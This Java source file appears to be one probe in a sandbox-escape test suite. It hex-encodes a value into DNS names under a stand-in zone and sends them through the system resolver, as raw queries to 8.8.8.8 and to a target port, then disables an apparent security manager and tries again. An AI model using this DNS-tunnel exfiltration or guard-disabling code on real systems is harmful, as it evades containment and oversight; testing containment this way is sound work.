package com.lockroom.escape.tricks;

import com.lockroom.escape.Attempts;
import com.lockroom.escape.Target;
import com.lockroom.escape.Trick;
import java.io.ByteArrayOutputStream;
import java.net.DatagramPacket;
import java.net.DatagramSocket;
import java.net.InetAddress;

/** A tunnel: the value in a name that somebody has to look up. */
public final class Names implements Trick {
    private static final String ZONE = ".t.lockroom.example";

    @Override
    public void go(Attempts attempts, Target target, String value) {
        StringBuilder hex = new StringBuilder();
        for (byte each : Wire.line("names", value)) {
            hex.append(String.format("%02x", each & 0xff));
        }
        String name = hex + ZONE;
        attempts.one("lookup", () -> InetAddress.getByName(name).toString());
        attempts.one("server", () -> ask("8.8.8.8", 53, name));
        attempts.one("own", () -> ask(target.host, target.udp, name));
        attempts.one("manager", Unguarded::disarm);
        attempts.one("unguarded lookup", () -> InetAddress.getByName("again-" + name).toString());
        attempts.one("unguarded server", () -> ask("8.8.8.8", 53, name));
        attempts.one("unguarded own", () -> ask(target.host, target.udp, name));
    }

    /** A question for the name's address (RFC 1035), sent by ourselves. */
    private static String ask(String host, int port, String name) throws Exception {
        ByteArrayOutputStream question = new ByteArrayOutputStream();
        question.write(new byte[] {0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0});
        for (String label : name.split("\\.")) {
            question.write(label.length());
            question.write(label.getBytes("US-ASCII"));
        }
        question.write(new byte[] {0, 0, 1, 0, 1});
        try (DatagramSocket socket = new DatagramSocket()) {
            socket.send(new DatagramPacket(question.toByteArray(), question.size(), InetAddress.getByName(host), port));
            return "sent";
        }
    }
}
